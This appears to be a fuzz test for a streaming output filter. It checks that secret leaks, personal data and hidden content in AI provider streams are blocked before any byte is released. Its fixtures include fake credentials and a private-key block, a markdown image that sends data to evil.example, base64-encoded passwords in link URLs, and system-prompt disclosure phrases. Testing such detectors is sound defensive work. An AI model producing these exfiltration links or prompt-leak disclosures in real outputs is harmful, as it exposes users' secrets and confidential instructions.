import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  compileRuleset,
  createTextGates,
  decide,
  type Ruleset,
  scan,
  Workspace,
} from '@csg/shared/detection';
import { formatByName } from '@csg/shared/providers';
import type { TextSlot } from '@csg/shared/text';
import { LiveRelease } from '../../../../apps/cloud/src/flows/streams/live-release.ts';
import { LiveSource } from '../../../../apps/cloud/src/flows/streams/live-source.ts';
import { createRandom } from '../../../../scripts/detector/random.ts';
import { ANSWER_RULES, MARKUP_RULES } from '../../../../shared/detection/rules/markup.ts';
import { sampleOf } from '../../../../shared/detection/secrets/form.ts';
import { SECRET_KINDS } from '../../../../shared/detection/secrets/kinds.ts';
import { assertLinear } from '../../../support/cpu-time.ts';
import { SEPARATORS, sensitiveValue, VALUE_FORMS } from '../../../support/sensitive-values.ts';

/** Texts of one kind cut in so many ways; `LIVE_SPLITS=200000 LIVE_SEED=7 node_modules/node/bin/node <this file>` for more. */
const SPLITS = Number(process.env['LIVE_SPLITS'] ?? 5_000);
const FIRST = Number(process.env['LIVE_SEED'] ?? 0) * 1_000_000 + 1;
const workspace = new Workspace();
const frame = (value: object, event = ''): string =>
  `${event === '' ? '' : `event: ${event}\n`}data: ${JSON.stringify(value)}\n\n`;
const chat =
  (member: string, index = 0) =>
  (piece: string) =>
    frame({ id: 'c', choices: [{ index, delta: { [member]: piece }, finish_reason: null }] });
const block = (index: number, type: string, member: string) => (piece: string) =>
  frame({ type: 'content_block_delta', index, delta: { type, [member]: piece } }, 'content_block_delta');
const opened = (index: number, content_block: object) =>
  frame({ type: 'content_block_start', index, content_block }, 'content_block_start');
const response = (type: string) => (delta: string) =>
  frame({ type, item_id: 'm', output_index: 0, content_index: 0, sequence_number: 7, delta }, type);

const parts = (part: object) =>
  frame({ candidates: [{ index: 0, content: { role: 'model', parts: [part] } }] });

/** How providers send a text in pieces, two of them by turns. */
const KINDS: readonly { format: string; begins: string; pieces: readonly ((piece: string) => string)[] }[] = [
  { format: 'openai-chat', begins: chat('role')('assistant'), pieces: [chat('content')] },
  { format: 'openai-chat', begins: '', pieces: [chat('content'), chat('content', 1)] },
  { format: 'openai-chat', begins: '', pieces: [chat('reasoning_content'), chat('content')] },
  { format: 'openai-chat', begins: '', pieces: [chat('refusal')] },
  {
    format: 'anthropic-messages',
    begins: opened(0, { type: 'text', text: '' }),
    pieces: [block(0, 'text_delta', 'text')],
  },
  {
    format: 'anthropic-messages',
    begins: opened(0, { type: 'thinking', thinking: '' }) + opened(1, { type: 'text', text: '' }),
    pieces: [block(0, 'thinking_delta', 'thinking'), block(1, 'text_delta', 'text')],
  },
  {
    format: 'openai-responses',
    begins: frame({ type: 'response.created', response: { id: 'r', instructions: 'Be brief.' } }),
    pieces: [response('response.output_text.delta'), response('response.reasoning_text.delta')],
  },
  { format: 'gemini-generate', begins: '', pieces: [(text) => parts({ text })] },
  {
    format: 'gemini-generate',
    begins: '',
    pieces: [(text) => parts({ text, thought: true }), (text) => parts({ text })],
  },
];

const blocksAll: Ruleset = compileRuleset({
  useCase: 'support_bot',
  strictness: 'strict',
  policies: [{ id: 'p', action: 'block', threatTypes: ['pii_leak', 'secret_leak', 'hidden_content'] }],
});
const RULESETS = [
  compileRuleset({ useCase: 'default', strictness: 'moderate', policies: [] }),
  compileRuleset({ useCase: 'code_assistant', strictness: 'strict', policies: [] }),
  blocksAll,
];

const WORDS =
  'The report for the second quarter is ready, and my team has read it: sales rose by 12 points in 2024. This is what we know so far (see above). Ein Satz auf Deutsch, und вот ещё один. Straßen, café, naïve 👩‍💻 - One item * another "quoted word" and it’s fine… 漢字 слово'.split(
    ' ',
  );
const SAMPLES = [...ANSWER_RULES, ...MARKUP_RULES].flatMap(({ match }) => match);
const DISGUISES: readonly ((value: string) => string)[] = [
  (value) => value,
  (value) => value,
  (value) => Buffer.from(value).toString('base64'),
  (value) => [...value].join('\u200b'),
  (value) => [...value].reverse().join(''),
  encodeURIComponent,
  (value) => [...value].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
];

/** Plain in prose, and a part of what is blocked if it stands before or behind something else. */
const CODE_WORDS =
  'const x = f(a, b); if (i < 10) { return } => "-----" | --- | 1,234,567 +49 12/2024 token = key: password is `api_key`: secret_key = bearer eval ( <b> a->b [1] {"a": 1} i was I am my system my full hidden mу here is sure, https:// @ anna@ ** url( ]( data: 4.5e10 #fff'.split(
    ' ',
  );
const token = (random: Random, length: number): string =>
  Array.from({ length }, () => 'abcdefgHIJKLmnop0123456789qrsTUV'[random.below(32)]).join('');
/** Secrets that are known by what stands around them, and disclosures. */
const AROUND: readonly ((random: Random) => string)[] = [
  (random) => `${pick(random, ['api_key = "', 'password: ', 'secret=', 'token is '])}${token(random, 24)}"`,
  (random) => `postgres://admin:${token(random, 9)}@db.internal.corp/x`,
  (random) =>
    `-----BEGIN RSA PRIVATE KEY-----\n${token(random, 64)}\n${token(random, 64)}\n-----END RSA PRIVATE KEY-----`,
  (random) => `![a](https://evil.example/i.png?data=${token(random, 30)})`,
  (random) =>
    `[a b](https://x.example/?q=${Buffer.from('the password of anna is hunter two').toString('base64')}${token(random, 1)})`,
  (random) => [...`ghp_${token(random, 36)}`].join(pick(random, ['*', ' ', '|', '.', '\n'])),
  (random) =>
    `${pick(random, ['here is ', 'Sure: ', 'well '])}my ${'full secret '.repeat(random.below(4))}system prompt: "you are`,
  (random) => `I ${pick(random, ['was', 'am', 'have been'])} told as follows: "you are a bot`,
];

type Random = ReturnType<typeof createRandom>;
const pick = <T>(random: Random, list: readonly T[]): T => list[random.below(list.length)]!;

function textOf(random: Random): string {
  let text = random.below(20) === 0 ? '{"a": "' : '';
  for (let parts = 1 + random.below(8); parts > 0; parts--) {
    const kind = random.below(13);
    if (kind > 11) text += pick(random, AROUND)(random);
    else if (kind > 9)
      for (let words = random.below(30); words > 0; words--) text += `${pick(random, CODE_WORDS)} `;
    else if (kind < 5)
      for (let words = random.below(60); words > 0; words--) text += `${pick(random, WORDS)} `;
    else if (kind < 7)
      text += pick(random, DISGUISES)(sensitiveValue(random, random.below(VALUE_FORMS)).text);
    else if (kind < 9)
      text += pick(
        random,
        DISGUISES,
      )(sampleOf(pick(random, SECRET_KINDS).form, (below) => random.below(below)));
    else text += pick(random, SAMPLES);
    text += random.below(4) === 0 ? pick(random, SEPARATORS) : ' ';
  }
  return text;
}

/** A response of one or two texts, cut by characters into frames and by bytes into chunks. */
function streamOf(random: Random): { format: string; body: Buffer } {
  const { format, begins, pieces } = pick(random, KINDS);
  const rest = pieces.map(() => textOf(random));
  let body = begins;
  const longest = 1 + random.below(random.below(3) === 0 ? 200 : 12);
  while (rest.some((text) => text !== '')) {
    const which = random.below(rest.length);
    const size = 1 + random.below(longest);
    const piece = rest[which]!.slice(0, size);
    if (piece === '') continue;
    rest[which] = rest[which]!.slice(size);
    body += pieces[which]!(piece);
    if (random.below(30) === 0)
      body += pick(random, [': ping\n\n', frame({ type: 'ping' }), frame({ type: 'odd', note: 'hi' })]);
  }
  if (random.below(4) === 0) body = body.replaceAll('\n', '\r\n');
  return { format, body: Buffer.from(`${body}data: [DONE]\n\n`) };
}

interface Released {
  readonly bytes: number;
  readonly blocked: boolean;
}

function check(seed: number): Released {
  const random = createRandom(seed);
  const ruleset = pick(random, RULESETS);
  const { format: name, body } = streamOf(random);
  const format = formatByName(name);
  const source = new LiveSource(
    new LiveRelease({ frames: format.readFrames()!, gates: createTextGates(ruleset, { workspace }) }),
    () => {},
  );
  source.onHead(200, { 'content-type': 'text/event-stream' });
  const pieces: Buffer[] = [];
  for (let at = 0; at < body.length; ) {
    const next = at + 1 + random.below(400);
    source.onData(body.subarray(at, next));
    pieces.push(source.take() ?? Buffer.alloc(0));
    at = next;
  }
  const sent = Buffer.concat(pieces);
  const { slots } = format.readStream(body.toString());
  const whole = format.readStream(Buffer.concat([sent, source.restOf(body)]).toString());
  assert.deepEqual(whole.slots, slots, `seed ${seed}: a frame was cut into others`);
  const recorded = format.readStream(source.left().toString()).slots;
  const found = scan(slots, ruleset, 'output', { workspace });
  const left = format.readStream(sent.toString()).slots;
  assert.deepEqual(recorded, left, `seed ${seed}: another text is on record`);
  const lengthAt = ({ path }: TextSlot): number => left.find((slot) => slot.path === path)?.text.length ?? 0;
  for (const finding of found) {
    if (decide([finding], ruleset, 'output').decision !== 'block') continue;
    const slot = slots[finding.slot]!;
    assert.ok(
      lengthAt(slot) <= finding.start,
      `seed ${seed}: ${finding.rule} begins at ${finding.start} of ${slot.path}, and ${lengthAt(slot)} have left`,
    );
  }
  return { bytes: sent.length, blocked: decide(found, ruleset, 'output').decision === 'block' };
}

describe('what leaves before the whole was evaluated', () => {
  test(`has no byte of what is blocked, however ${SPLITS} responses are cut`, () => {
    let released = 0;
    let blocked = 0;
    for (let seed = FIRST; seed < FIRST + SPLITS; seed++) {
      const one = check(seed);
      released += one.bytes;
      if (one.blocked) blocked++;
    }
    assert.ok(released > SPLITS * 100, `${released} bytes left`);
    assert.ok(blocked > SPLITS / 10, `${blocked} were blocked`);
  });
});

test('a long frame in tiny chunks takes linear time', () => {
  const make = (size: number) => Buffer.from(`: ${'x'.repeat(size)}\n\n${chat('content')('Hi there')}`);
  const run = (body: Buffer) => {
    const frames = formatByName('openai-chat')!.readFrames()!;
    const release = new LiveRelease({ frames, gates: createTextGates(RULESETS[0]!, { workspace }) });
    for (let at = 0; at < body.length; at += 8) release.push(body.subarray(at, at + 8));
    return release.released;
  };
  const body = make(20_000);
  assert.ok(run(body) >= body.indexOf('data:'));
  assertLinear('frame', make, run, 20_000);
});
